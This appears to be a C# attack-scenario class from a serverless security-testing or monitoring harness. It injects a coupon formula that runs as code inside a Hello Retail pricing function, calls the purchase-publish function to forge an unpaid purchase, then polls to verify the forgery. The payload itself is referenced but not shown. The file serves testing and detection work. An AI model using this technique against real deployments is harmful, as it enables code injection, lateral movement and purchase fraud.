namespace FaaSMon.Workload;

/// <summary>
/// Lateral movement: a coupon formula, run as code inside product-purchase-get-price, calls product-purchase-publish
/// through the gateway with a purchase nobody authenticated or paid for. Verified by reading the forged purchase back.
/// </summary>
internal sealed class LateralMovementAttack : IAttackScenario
{
    private static readonly TimeSpan VerifyWindow = TimeSpan.FromSeconds(10);
    private static readonly TimeSpan PollInterval = TimeSpan.FromMilliseconds(500);

    public string Family => AttackFamily.LateralMovement;

    public int GatedSteps => 1;

    public async Task<AttackOutcome> RunAsync(AttackRun run, CancellationToken ct)
    {
        await run.ReachStepAsync(0, ct);
        var trigger = await run.SendMaliciousAsync(
            GatewayRequest.Post(HelloRetail.PurchaseGetPrice, "/", new
            {
                product = AttackPayloads.VictimProduct,
                quantity = 1,
                coupon = AttackPayloads.LateralMovementCoupon(run.Nonce),
            }),
            AttackStep.Trigger,
            ct);

        var forgedUser = AttackPayloads.ForgedUser(run.Nonce);
        var forgedAuthorization = AttackPayloads.ForgedAuthorization(run.Nonce);
        var deadline = DateTimeOffset.UtcNow + VerifyWindow;
        GatewayResponse? last = null;
        for (var poll = 1; DateTimeOffset.UtcNow < deadline; poll++)
        {
            await Task.Delay(PollInterval, ct);
            last = await run.SendBenignAsync(
                GatewayRequest.Get(HelloRetail.PurchasePublish, $"/purchases?user={Uri.EscapeDataString(forgedUser)}"),
                AttackStep.Verify,
                ct);
            if (last.IsSuccess && last.Body.Contains($"\"{forgedUser}\"", StringComparison.Ordinal))
            {
                var authorization = last.Body.Contains($"\"{forgedAuthorization}\"", StringComparison.Ordinal)
                    ? $"with authorization {forgedAuthorization}"
                    : "(authorization not echoed)";
                return run.Outcome(
                    true,
                    $"product-purchase-publish lists a purchase by {forgedUser} {authorization}, published from inside get-price " +
                    $"(get-price answered {trigger}; seen on poll {poll})");
            }
        }

        return run.Outcome(
            false,
            $"no purchase by {forgedUser} within {VerifyWindow.TotalSeconds:F0}s; get-price answered {trigger}, last purchases read answered {last?.ToString() ?? "nothing"}");
    }
}
